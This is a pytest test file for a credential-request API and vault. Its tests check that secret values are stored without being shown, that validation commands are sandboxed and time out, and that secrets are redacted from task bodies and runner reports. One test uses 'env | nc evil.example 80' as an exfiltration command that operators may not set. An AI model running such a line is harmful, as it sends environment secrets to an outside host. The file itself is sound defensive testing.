"""Requests for credentials over HTTP: what is wanted, who has provided it, and never its value."""

import asyncio
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from ops.definitions import Definition
from ops.errors import OperatorError
from ops.vault.desk import Desk
from ops.vault.keyring import Keyring
from ops.vault.vault import Vault
from projections.views import Views
from tests.api.serving import Served, refusal_of, serving
from tests.support.dump import dump
from tests.support.waiting import eventually

SECRET = "correct-horse-battery-staple"
TWO = {"SUPABASE_URL": "https://abc.example", "SUPABASE_KEY": SECRET}


class File(list[Definition]):
    """REQUESTS.json, to be changed by a test; one that is broken says so."""

    broken: OperatorError | None = None

    def __call__(self) -> Sequence[Definition]:
        if self.broken is not None:
            raise self.broken
        return self


@pytest.fixture
def file() -> File:
    """Two defined requests, one of them with a validation command."""
    check = 'test "$OPENAI_API_KEY" = good-key-for-tests || { echo "refused: $OPENAI_API_KEY" >&2; exit 22; }'
    return File(
        [
            Definition("REQ-009", "OpenAI", "api_key", ["OPENAI_API_KEY"], "Plan.", validation_cmd=check),
            Definition("REQ-001", "Supabase", scopes=["SUPABASE_URL", "SUPABASE_KEY"]),
        ]
    )


@pytest.fixture
def keyring(tmp_path: Path) -> Keyring:
    """The keyring of the process that serves; its environment is empty."""
    return Keyring(Vault(tmp_path / "vault"), (), dict)


@pytest.fixture
async def api(database: str, keyring: Keyring, file: File) -> AsyncIterator[Served]:
    """An API over a vault and the file."""
    async with serving(database, keyring=keyring, definitions=file) as served:
        yield served


async def show(api: Served, request_id: str = "REQ-009") -> Any:
    """One request of the list."""
    return next(each for each in await api.get("/ops/requests") if each["id"] == request_id)


async def types(api: Served) -> list[str]:
    """What happened to requests, e.g. `opened`."""
    return [event["type"].partition(".")[2] for event in await api.get("/ops/events?kind=request")]


# ---------------------------------------------------------------------- the list


async def test_what_is_defined_waits(api: Served) -> None:
    """Definitions are listed before anything has happened, WAITING and without a value, in the order of the ids."""
    response = await api.client.get("/ops/requests")
    assert {"total": 2, "next": None} == response.json()["meta"]
    assert ["REQ-001", "REQ-009"] == [each["id"] for each in response.json()["data"]]
    request = await show(api)
    assert ("WAITING", "OpenAI", "api_key", ["OPENAI_API_KEY"], "Plan.", False, []) == tuple(
        request[key] for key in ("status", "service", "type", "scopes", "purpose", "has_value", "granted")
    )
    assert [] == await types(api)


async def test_one_can_be_asked_for(api: Served) -> None:
    """A request that no file defines is opened, once; an array opens several, all or none."""
    wanted = {"id": "REQ-100", "service": "npm", "scopes": ["NPM_TOKEN"], "reason": "publishing"}
    first = await api.client.post("/ops/requests", json=wanted)
    again = await api.client.post("/ops/requests", json=[wanted, {"id": "REQ-009"}, wanted])
    assert [201, 201] == [first.status_code, again.status_code]
    assert ("WAITING", "publishing", "human:local") == tuple(
        first.json()["data"][key] for key in ("status", "reason", "changed_by")
    )
    assert ["REQ-100", "REQ-009", "REQ-100"] == [each["id"] for each in again.json()["data"]]
    assert 200 == (await api.client.post("/ops/requests", json=[wanted, {"id": "REQ-009"}])).status_code
    assert ["opened", "opened"] == await types(api)
    assert "OpenAI" == (await show(api))["service"]

    await api.patch("/ops/requests/REQ-001", {"status": "PROVIDED"})
    assert ["REQ-009", "REQ-100"] == [each["id"] for each in await api.get("/ops/requests?status=WAITING")]
    assert 400 == (await api.client.get("/ops/requests?status=LOST")).status_code


async def test_a_changed_file_counts_at_once(api: Served, file: File) -> None:
    """Who edits REQUESTS.json need not restart anything; a broken one is told of, and so is what it says."""
    await api.post("/ops/requests", {"id": "REQ-009"})
    file[0] = Definition("REQ-009", "Another", scopes=["OTHER_KEY"])
    assert ("Another", ["OTHER_KEY"]) == ((request := await show(api))["service"], request["scopes"])
    file.broken = OperatorError("definitions.twice", file="REQUESTS.json", request="REQ-009")
    answer = (await api.client.get("/ops/requests")).json()
    assert (["REQ-009"], str(file.broken)) == ([each["id"] for each in answer["data"]], answer["meta"]["problem"])
    assert (422, "unprocessable", str(file.broken)) == refusal_of(
        await api.client.post("/ops/requests", json={"id": "REQ-010"})
    )
    home = await api.client.get("/panel", headers={"Accept-Language": "en"})
    assert home.is_success
    assert "REQUESTS.json cannot be read" in home.text


REFUSED: list[tuple[str, str, Any, int, str]] = [
    ("POST", "/ops/requests", {"id": "REQ-100"}, 400, "service"),
    ("POST", "/ops/requests", [], 400, "from 1 to"),
    ("POST", "/ops/requests", {"id": "", "service": "npm"}, 400, "id"),
    ("POST", "/ops/requests", {"id": "a/b", "service": "npm"}, 400, "id"),
    ("POST", "/ops/requests", {"id": "a", "service": "npm", "scopes": ["NPM TOKEN"]}, 400, "scopes"),
    ("POST", "/ops/requests", {"id": "a", "service": "npm", "scope": []}, 400, "scope"),
    ("PATCH", "/ops/requests/REQ-009", {}, 400, "status"),
    ("PATCH", "/ops/requests/REQ-009", {"status": "LOST"}, 400, "status"),
    ("PATCH", "/ops/requests/REQ-009", {"granted": True}, 400, "no value"),
    ("PATCH", "/ops/requests/NOPE", {"status": "PROVIDED"}, 404, "NOPE"),
    ("POST", "/ops/requests/NOPE/value", {"values": {"A": "value"}}, 404, "NOPE"),
    ("POST", "/ops/requests/REQ-009/value", {"values": {}}, 400, "values"),
    ("POST", "/ops/requests/REQ-009/value", {}, 400, "values"),
    ("POST", "/ops/requests/REQ-009/value", {"values": {"OPENAI_KEY": SECRET}}, 400, "asks for OPENAI_API_KEY"),
    ("POST", "/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": " "}}, 400, "empty"),
    ("POST", "/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": 7}}, 400, "OPENAI_API_KEY|values"),
    ("GET", "/ops/requests/NOPE/value/status", None, 404, "NOPE"),
    ("POST", "/ops/requests/NOPE/validate", {}, 404, "NOPE"),
]


async def test_what_will_not_do_is_refused(api: Served) -> None:
    """A refusal says what is wrong; nothing is stored, and no event tells of it."""
    for method, path, body, status, word in REFUSED:
        refused = refusal_of(await api.client.request(method, path, json=body))
        assert status == refused[0], refused
        assert any(each in refused[2] for each in word.split("|")), refused
        assert SECRET not in refused[2]
    assert {} == api.vault.read().entries
    assert [] == await types(api)


# ---------------------------------------------------------------------- values


async def test_a_value_is_stored_and_never_shown(api: Served, database: str) -> None:
    """It is in the vault at once, the request PROVIDED; neither an answer nor the database holds it."""
    stored = await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": SECRET}})
    assert {"saved": True, "env_runtime": True, "status": "PROVIDED", "missing": [], "warnings": []} == stored
    assert SECRET == api.vault.get("OPENAI_API_KEY")
    request = await show(api)
    assert ("PROVIDED", "human:local", "vault", True) == tuple(
        request[key] for key in ("status", "provided_by", "place", "has_value")
    )
    [_opened, provided] = await api.get("/ops/events?kind=request")
    assert {"names": ["OPENAI_API_KEY"], "place": "vault"} == provided["data"]
    answers = [await api.client.get(path) for path in ("/ops/requests", "/ops/events", "/ops/requests/REQ-009/value")]
    assert SECRET not in "".join(answer.text for answer in answers) + await dump(database)


async def test_a_weak_value_is_stored_with_a_warning(api: Served) -> None:
    """The answer names the variable and the reason, never the value."""
    stored = await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": "production"}})
    [warning] = stored["warnings"]
    assert ("OPENAI_API_KEY", "everyday") == (warning["name"], warning["reason"])
    assert "common word" in warning["detail"]
    assert "production" not in str(warning)
    stored = await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": "abc"}})
    assert ["short"] == [warning["reason"] for warning in stored["warnings"]]


async def test_a_new_value_is_an_event_and_a_grant_is_none(api: Served) -> None:
    """Who changed a key, and when, can be seen; whether tasks may have it is the vault's business."""
    body = {"values": {"OPENAI_API_KEY": SECRET}, "granted": True}
    await api.post("/ops/requests/REQ-009/value", body)
    assert ["OPENAI_API_KEY"] == (await show(api))["granted"]
    assert [] == (await api.patch("/ops/requests/REQ-009", {"granted": False}))["granted"]
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": "a-newer-key"}})
    assert ("a-newer-key", False) == ((entry := api.vault.read().entries["OPENAI_API_KEY"]).value, entry.granted)
    assert ["opened", "provided", "provided"] == await types(api)


async def test_a_request_that_names_no_variables_takes_any(api: Served) -> None:
    """Whoever asks may not know what the variables are called."""
    await api.post("/ops/requests", {"id": "REQ-100", "service": "npm"})
    assert {"has_value": False} == await api.get("/ops/requests/REQ-100/value/status")
    assert "PROVIDED" == (await api.post("/ops/requests/REQ-100/value", {"values": {"NPM_TOKEN": SECRET}}))["status"]
    assert {"has_value": True} == await api.get("/ops/requests/REQ-100/value/status")


async def test_half_of_the_values_leave_it_waiting(api: Served) -> None:
    """A request with two variables is PROVIDED when the second one has come; has_value says the same."""
    first = await api.post("/ops/requests/REQ-001/value", {"values": {"SUPABASE_URL": TWO["SUPABASE_URL"]}})
    assert ("WAITING", ["SUPABASE_KEY"]) == (first["status"], first["missing"])
    assert {"has_value": False} == await api.get("/ops/requests/REQ-001/value/status")
    second = await api.post("/ops/requests/REQ-001/value", {"values": {"SUPABASE_KEY": SECRET}})
    assert ("PROVIDED", []) == (second["status"], second["missing"])
    assert {"has_value": True} == await api.get("/ops/requests/REQ-001/value/status")
    assert TWO == {name: entry.value for name, entry in api.vault.read().entries.items()}
    assert (await api.post("/ops/requests/REQ-001/validate"))["ok"]  # there is no command that could say otherwise


async def test_the_environment_overrides(database: str, tmp_path: Path, file: File) -> None:
    """Where the process has the variable in its environment, the answer says that the stored value is not used yet."""
    keyring = Keyring(Vault(tmp_path / "vault"), (), lambda: {"OPENAI_API_KEY": "from-the-environment"})
    async with serving(database, keyring=keyring, definitions=file) as api:
        assert {"has_value": True} == await api.get("/ops/requests/REQ-009/value/status")
        stored = await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": SECRET}})
        assert (True, False) == (stored["saved"], stored["env_runtime"])


async def test_a_withdrawn_request_takes_no_value(api: Served) -> None:
    """First it is opened again."""
    body = {"values": {"OPENAI_API_KEY": SECRET}}
    await api.patch("/ops/requests/REQ-009", {"status": "WITHDRAWN", "reason": "another model"})
    assert "another model" == (await show(api))["reason"]
    assert 409 == (await api.client.post("/ops/requests/REQ-009/value", json=body)).status_code
    assert api.vault.get("OPENAI_API_KEY") is None
    await api.patch("/ops/requests/REQ-009", {"status": "WAITING"})
    assert "PROVIDED" == (await api.post("/ops/requests/REQ-009/value", body))["status"]


async def test_many_values_at_once_are_all_kept(api: Served) -> None:
    """Concurrent stores of different requests lose nothing."""
    wanted = [{"id": f"REQ-{n}", "service": "x", "scopes": [f"KEY_{n}"]} for n in range(100, 112)]
    await api.post("/ops/requests", wanted)
    await asyncio.gather(
        *(api.post(f"/ops/requests/REQ-{n}/value", {"values": {f"KEY_{n}": f"value-{n}"}}) for n in range(100, 112))
    )
    assert {f"KEY_{n}": f"value-{n}" for n in range(100, 112)} == {
        name: entry.value for name, entry in api.vault.read().entries.items()
    }
    assert 12 == len(await api.get("/ops/requests?status=PROVIDED"))


async def test_a_damaged_vault_is_told_of(api: Served) -> None:
    """503 with what to do; the request stays as it was, and whatever needs no vault goes on."""
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": SECRET}})
    api.vault.file.write_bytes(api.vault.file.read_bytes()[:-1])
    for path in ("/ops/requests/REQ-009/value", "/ops/requests/REQ-001/value"):
        refused = refusal_of(await api.client.post(path, json={"values": {"OPENAI_API_KEY": "x" * 9}}))
        assert refused[0] in (400, 503)
    status, _code, detail = refusal_of(await api.client.get("/ops/requests"))
    assert (503, True) == (status, "damaged" in detail and "copy" in detail)
    assert (await api.client.post("/ops/tasks", json={"title": "T"})).is_success


# ---------------------------------------------------------------------- validation


async def test_values_are_tried_out(api: Served) -> None:
    """Without a value, with a wrong one, with a good one: what the command said, without the value."""
    verdict = await api.post("/ops/requests/REQ-009/validate")
    assert (False, True) == (verdict["ok"], "OPENAI_API_KEY has no value" in verdict["message"])
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": SECRET}})
    verdict = await api.post("/ops/requests/REQ-009/validate")
    assert {"ok": False, "message": "the validation command exited with 22: refused: [redacted]"} == verdict
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": "good-key-for-tests"}})
    assert (await api.post("/ops/requests/REQ-009/validate"))["ok"]


async def test_the_command_sees_the_value_and_little_else(
    api: Served, file: File, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Our own environment stays ours, but for what the command names; and no argument shows the value."""
    monkeypatch.setenv("OURS_ALONE", "a-secret-of-ours")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:1/v1")
    command = """
        tr '\\0' ' ' < /proc/$$/cmdline > arguments
        if grep -q "$OPENAI_API_KEY" arguments; then exit 1; fi
        if env | grep -q OURS_ALONE; then exit 2; fi
        echo $OPENAI_BASE_URL
    """
    file[0] = Definition("REQ-009", "OpenAI", scopes=["OPENAI_API_KEY"], validation_cmd=command)
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": SECRET}})
    assert {"ok": True, "message": "http://127.0.0.1:1/v1"} == await api.post("/ops/requests/REQ-009/validate")
    file[0] = Definition(
        "REQ-009", "OpenAI", scopes=["OPENAI_API_KEY"], validation_cmd="env | sort | cut -d= -f1 | xargs"
    )
    names = (await api.post("/ops/requests/REQ-009/validate"))["message"].split()
    assert "OPENAI_API_KEY" in names
    assert not {"OURS_ALONE", "OPENAI_BASE_URL"} & set(names)


async def test_a_command_that_hangs_is_ended(
    database: str, keyring: Keyring, file: File, api: Served, tmp_path: Path
) -> None:
    """After its time it is over, with everything it started."""
    mark = tmp_path / "alive"
    file[0] = Definition("REQ-009", "OpenAI", scopes=["K"], validation_cmd=f"sleep 300 & echo $! > {mark}; wait")
    keyring.vault.set({"K": SECRET})
    desk = Desk(keyring, api.commands, Views(api.pool), file, seconds=0.5)
    verdict = await desk.validate("REQ-009")
    assert (False, "timed out after 0.5 s") == (verdict.ok, verdict.message)
    pid = mark.read_text().strip()
    await eventually(lambda: not Path(f"/proc/{pid}").exists() or "Z" in Path(f"/proc/{pid}/stat").read_text())


async def test_only_an_admin_sets_a_command(api: Served) -> None:
    """An operator may ask for credentials, but not for commands that are executed beside the vault."""
    await api.tokens.create_token("root", "admin")
    token = await api.tokens.create_token("ana", "operator")
    wanted = {"id": "REQ-100", "service": "npm", "validation_cmd": "env | nc evil.example 80"}
    headers = {"Authorization": f"Bearer {token}"}
    refused = await api.client.post("/ops/requests", json=wanted, headers=headers)
    assert (403, "forbidden") == refusal_of(refused)[:2]
    wanted.pop("validation_cmd")
    assert 201 == (await api.client.post("/ops/requests", json=wanted, headers=headers)).status_code


# ---------------------------------------------------------------------- secrets in other bodies


async def test_a_body_with_a_secret_is_refused(api: Served, database: str) -> None:
    """Whoever writes a stored value into a task is told its name and what to do; nothing of it is kept."""
    await api.post("/ops/requests/REQ-009/value", {"values": {"OPENAI_API_KEY": 'a"quoted\\key'}})
    await api.post("/ops/requests/REQ-001/value", {"values": TWO})
    for body in (
        {"title": "T", "steps": [{"name": "n", "cmd": f"curl -H {SECRET} x\ny"}]},
        {"title": 'use a"quoted\\key'},
        {"title": "T", "params": {"deep": [{SECRET: 1}]}},
    ):
        status, code, detail = refusal_of(await api.client.post("/ops/tasks", json=body))
        assert (422, "secret_in_text") == (status, code)
        assert "params.secrets" in detail
        assert SECRET not in detail
    paused = await api.client.post("/ops/system/pause", json={"reason": SECRET})
    assert (422, "secret_in_text") == refusal_of(paused)[:2]
    assert SECRET not in (await api.client.get(f"/ops/tasks/{SECRET}")).text
    assert (await api.client.post("/ops/tasks", json={"title": "nothing\nsecret"})).is_success
    assert SECRET not in await dump(database)


async def test_what_a_runner_reports_is_redacted(api: Served, database: str) -> None:
    """A runner that speaks HTTP may not know our secrets: its reports lose them here, and are kept otherwise."""
    await api.post("/ops/requests/REQ-001/value", {"values": TWO})
    await api.post("/ops/tasks", [{"id": "a", "title": "A"}, {"id": "b", "title": "B"}])
    await api.post("/ops/runner/heartbeat", {"runner_id": "r1", "meta": {"started with": SECRET}})
    run, other = [task["run_id"] for task in await api.claim("r1", limit=2)]
    await api.post(f"/runs/{run}/steps", {"step_name": "one", "cmd": f"echo {SECRET}", "output_excerpt": f"{SECRET}\n"})
    await api.post(f"/runs/{run}/output", {"chunks": [{"number": 1, "step": 1, "stream": "stdout", "data": SECRET}]})
    await api.post(f"/runs/{run}/artifacts", {"patch": f"+key = '{SECRET}'\n"})
    await api.patch(f"/runs/{run}", {"status": "done", "summary": f"with {SECRET}", "result": {"key": [SECRET]}})
    await api.patch(f"/runs/{other}", {"status": "failed", "error": f"bad key {SECRET}", "retry": False})
    shown = await api.get(f"/runs/{run}")
    assert ("with [redacted]", "echo [redacted]") == (shown["summary"], shown["steps"][0]["cmd"])
    assert "+key = '[redacted]'\n" == (await api.get(f"/runs/{run}/artifacts/patch"))["content"]
    assert "bad key [redacted]" == (await api.get("/ops/tasks/b"))["last_error"]
    assert SECRET not in await dump(database)


# ---------------------------------------------------------------------- the vault changed by other ways


async def test_what_was_stored_beside_the_api_is_settled(api: Served, keyring: Keyring, file: File) -> None:
    """A value stored on the command line provides what waits for it, also when no event knows it; once. A key that is
    there but was asked for again does not, one stored afterwards does."""
    desk = Desk(keyring, api.commands, Views(api.pool), file)
    assert [] == await desk.settle("system")
    keyring.vault.set({"OPENAI_API_KEY": SECRET, "SUPABASE_URL": TWO["SUPABASE_URL"]})
    assert ["REQ-009"] == await desk.settle("system")
    assert [] == await desk.settle("system")
    assert ("PROVIDED", "system") == ((request := await show(api))["status"], request["provided_by"])

    await api.patch("/ops/requests/REQ-009", {"status": "WAITING", "reason": "refused by the service"})
    assert [] == await desk.settle("system")
    keyring.vault.set({"OPENAI_API_KEY": "a-newer-key"})
    assert ["REQ-009"] == await desk.settle("system")


async def test_a_removed_value_is_asked_for_again(api: Served, keyring: Keyring, file: File) -> None:
    """What the vault had provided waits again when one of its values is removed; other requests stay as they are."""
    desk = Desk(keyring, api.commands, Views(api.pool), file)
    await api.post("/ops/requests/REQ-001/value", {"values": TWO})
    await api.patch("/ops/requests/REQ-009", {"status": "PROVIDED"})
    keyring.vault.remove(["SUPABASE_KEY"])
    assert ["REQ-001"] == await desk.reopen(["SUPABASE_KEY", "OPENAI_API_KEY"], "human:ana")
    assert ("WAITING", False) == ((request := await show(api, "REQ-001"))["status"], request["has_value"])
    assert "PROVIDED" == (await show(api))["status"]
